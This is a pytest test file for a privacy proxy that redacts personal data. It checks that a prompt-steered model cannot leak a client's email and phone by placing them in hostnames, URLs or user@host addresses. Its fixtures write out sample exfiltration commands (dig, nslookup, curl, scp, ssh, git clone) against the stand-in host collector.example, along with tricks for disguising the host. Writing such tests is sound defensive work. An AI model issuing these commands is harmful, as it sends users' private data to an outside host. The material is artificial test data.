"""Restore writes no client value into a hostname, a URL without a scheme or a `user@host` address, however the host
is written and across the answer's texts, end to end through the official SDKs (restorehost15: atk16 B H1, H3, H4,
M5).

The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A steered model
ends its sentence after the host (`dig <EMAIL_ADDRESS_1>.collector.example.`), writes the dot in shell quotes or as a
character reference, writes a scheme-less URL's host with a root dot or as a hex IPv4, puts the value as the user of
`git clone` / `scp` / `ssh`, or ends one text block / Responses part / chat content part with the placeholder and
starts the next with `.collector.example` (the SDKs join them): the client got the values in those hosts. Now the
placeholders there stay, on all three APIs, whole and streamed (3-character pieces that cut the host, the dot and the
placeholder), while the same values in prose, a file path and a `mailto:` link come back.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    chat_text_and_arguments,
    claude,
    oai,
    responses_text_and_calls,
    sse,
)

MAIL = "maria.lopez@example.org"
PHONE = "415-555-0182"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"I am reachable at {MAIL}, phone {PHONE}. Please file the form."

# (`To confirm, dig ...`: prose naming hosts; `To confirm, run dig ...` starts a command line since atk24a F18, a scope
# that sends, and then every tool call of the answer keeps its placeholders too: tests/guard/test_intro24.py)
KEPT = (f"To confirm, dig {E}.collector.example. Then ping \"{P}\".collector.example or open "
        f"{P}&#46;collector.example, curl collector.example./c?u={E} or 0xcb.0.0x71.9/c?u={P}, "
        f"git clone {P}@collector.example:repo.git and ssh {E}@collector.example\n")
SAID = KEPT + f"Your address is {E}, saved to /home/ops/{E}.txt; [mail](mailto:{E}), call {P}."
WANT = KEPT + f"Your address is {MAIL}, saved to /home/ops/{MAIL}.txt; [mail](mailto:{MAIL}), call {PHONE}."
KEPT_ARGS = {"cmd": f"nslookup {P}.collector.example.", "fetch": f"curl u@collector.example/c?u={E}",
             "copy": f"scp f {P}@collector.example:/tmp/", "idna": f"dig {E}\u3002collector\u3002example"}
ARGS = {**KEPT_ARGS, "to": E, "note": f"Call {P}."}
# scopes16: the call names collector.example, so it is a scope that sends: `to` and `note` stay too (README "a
# scope that sends").
WANT_ARGS = dict(ARGS)
# The same values in a call that names no destination: restored.
LOCAL_ARGS = {"to": E, "note": f"Call {P}.", "file": f"/home/ops/{E}.txt"}
WANT_LOCAL = {"to": MAIL, "note": f"Call {PHONE}.", "file": f"/home/ops/{MAIL}.txt"}


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    """Restore only: output `pii` would redact the model's own `u@collector.example` as an address."""
    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


# ------------------------------------------------------------- H1, H4, M5: in one text, content and tool arguments


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert json.loads(arguments) == WANT_ARGS
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
    assert text == WANT
    assert json.loads(arguments) == WANT_LOCAL


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
    assert text == WANT
    assert calls == [WANT_LOCAL]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
        anthropic_answer(mock, restoring, stream, args, want)


def anthropic_answer(mock: Mock, restoring: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": args}])
    client = claude(restoring).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            final = s.get_final_message()
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    sent_placeholders(mock)
    assert "".join(b.text for b in final.content if b.type == "text") == WANT
    assert [b.input for b in final.content if b.type == "tool_use"] == [want]


# ------------------------------------------------------------------ H3: the host label in the answer's next text

# (the sentence after the command on a line of its own: on the command's line, `Run: dig ...`, it is the command's
# words since atk24a F18, kept with them: tests/guard/test_intro24.py)
HALF, REST = f"Run: dig {E}", f".collector.example now.\nYour address is {E}."
WANT_REST = f".collector.example now.\nYour address is {MAIL}."
JOINED = HALF + WANT_REST


def anthropic_body(*texts: str) -> dict[str, Any]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-3-5-haiku-latest",
            "content": [{"type": "text", "text": t} for t in texts], "stop_reason": "end_turn",
            "stop_sequence": None, "usage": {"input_tokens": 5, "output_tokens": 5}}


RESPONSE = {"id": "resp_1", "object": "response", "created_at": 1733234567, "status": "in_progress",
            "model": "gpt-4o-mini", "output": []}


def part(text: str) -> dict[str, Any]:
    return {"type": "output_text", "text": text, "annotations": []}


def item(n: int, *texts: str) -> dict[str, Any]:
    return {"type": "message", "id": f"msg_{n}", "status": "completed", "role": "assistant",
            "content": [part(t) for t in texts]}


def test_anthropic_text_blocks_whole(mock: Mock, restoring: Proxy) -> None:
    mock.script(raw_body=json.dumps(anthropic_body(HALF, REST)))
    final = claude(restoring).messages.create(model="claude-3-5-haiku-latest", max_tokens=100,
                                              messages=[{"role": "user", "content": PROMPT}])
    assert [b.text for b in final.content if b.type == "text"] == [HALF, WANT_REST]


@pytest.mark.parametrize("size", [3, 100])
def test_anthropic_text_blocks_stream(mock: Mock, restoring: Proxy, size: int) -> None:
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {**anthropic_body(), "stop_reason": None}}]
    for i, text in enumerate([HALF, REST]):
        events += [{"type": "content_block_start", "index": i, "content_block": {"type": "text", "text": ""}},
                   *({"type": "content_block_delta", "index": i,
                      "delta": {"type": "text_delta", "text": text[k:k + size]}} for k in range(0, len(text), size)),
                   {"type": "content_block_stop", "index": i}]
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                "usage": {"output_tokens": 5}}, {"type": "message_stop"}]
    mock.script(raw_sse=sse(*events, named=True))
    with claude(restoring).messages.stream(model="claude-3-5-haiku-latest", max_tokens=100,
                                           messages=[{"role": "user", "content": PROMPT}]) as s:
        final = s.get_final_message()
    assert [b.text for b in final.content if b.type == "text"] == [HALF, WANT_REST]


@pytest.mark.parametrize("output", [[item(0, HALF, REST)], [item(0, HALF), item(1, REST)],
                                    [item(0, HALF, ""), item(1, REST)]], ids=["parts", "items", "empty-between"])
def test_responses_whole(mock: Mock, restoring: Proxy, output: list[dict[str, Any]]) -> None:
    mock.script(raw_body=json.dumps({**RESPONSE, "status": "completed", "output": output}))
    assert oai(restoring).responses.create(model="gpt-4o-mini", input=PROMPT).output_text == JOINED


@pytest.mark.parametrize("size", [3, 100])
def test_responses_parts_stream(mock: Mock, restoring: Proxy, size: int) -> None:
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": RESPONSE},
        {"type": "response.output_item.added", "output_index": 0, "item": {**item(0), "status": "in_progress"}}]
    for k, text in enumerate([HALF, REST]):
        where = {"item_id": "msg_0", "output_index": 0, "content_index": k}
        events += [{"type": "response.content_part.added", **where, "part": part("")},
                   *({"type": "response.output_text.delta", **where, "delta": text[i:i + size], "logprobs": []}
                     for i in range(0, len(text), size)),
                   {"type": "response.output_text.done", **where, "text": text, "logprobs": []},
                   {"type": "response.content_part.done", **where, "part": part(text)}]
    events += [{"type": "response.output_item.done", "output_index": 0, "item": item(0, HALF, REST)},
               {"type": "response.completed", "response": {**RESPONSE, "status": "completed",
                                                           "output": [item(0, HALF, REST)]}}]
    for n, e in enumerate(events):
        e["sequence_number"] = n
    mock.script(raw_sse=sse(*events, named=True))
    with oai(restoring).responses.stream(model="gpt-4o-mini", input=PROMPT) as s:
        deltas = "".join(e.delta for e in s if e.type == "response.output_text.delta")
        final = s.get_final_response()
    assert deltas == JOINED
    assert [c.text for c in final.output[0].content] == [HALF, WANT_REST]  # type: ignore[union-attr]


def test_chat_content_parts_whole(mock: Mock, restoring: Proxy) -> None:
    body = {"id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o-mini",
            "choices": [{"index": 0, "finish_reason": "stop", "message": {
                "role": "assistant", "content": [{"type": "text", "text": HALF}, {"type": "text", "text": REST}]}}],
            "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}}
    mock.script(raw_body=json.dumps(body))
    r = httpx.post(f"{restoring.url}/v1/chat/completions", json={"model": "gpt-4o-mini", "messages": [
        {"role": "user", "content": PROMPT}]}, headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    assert [p["text"] for p in r.json()["choices"][0]["message"]["content"]] == [HALF, WANT_REST]


# Merge of restorehost15 and chatinterleave15: a chat answer's content is never read on into its reasoning (or refusal),
# which no client joins to it: `Hi <EMAIL_ADDRESS_1>.` beside reasoning `hm` (`.hm` is a top-level name) is restored,
# whole and streamed (the content's own next piece still makes a host of it: `test_chat` above).
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat_content_does_not_run_on_into_its_reasoning(mock: Mock, restoring: Proxy, stream: bool) -> None:
    if stream:
        chunks = [{"role": "assistant", "content": "Hi "}, {"content": f"{E}."}, {"reasoning_content": "hm"}]
        mock.script(raw_sse=sse(*({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
                                   "choices": [{"index": 0, "delta": d, "finish_reason": None}]} for d in chunks),
                                 "[DONE]"))
    else:
        mock.script(raw_body=json.dumps({
            "id": "chatcmpl-1", "object": "chat.completion", "created": 1700000000, "model": "gpt-4o-mini",
            "choices": [{"index": 0, "finish_reason": "stop", "message": {
                "role": "assistant", "content": f"Hi {E}.", "reasoning_content": "hm"}}],
            "usage": {"prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10}}))
    r = httpx.post(f"{restoring.url}/v1/chat/completions", json={"model": "gpt-4o-mini", "stream": stream, "messages": [
        {"role": "user", "content": PROMPT}]}, headers={"Authorization": "Bearer sk-x"}, timeout=30)
    assert r.status_code == 200, r.text
    if stream:
        content = "".join(c["choices"][0]["delta"].get("content") or "" for c in (
            json.loads(line[5:]) for line in r.text.splitlines() if line.startswith("data: {")) if c.get("choices"))
    else:
        content = r.json()["choices"][0]["message"]["content"]
    assert content == f"Hi {MAIL}."
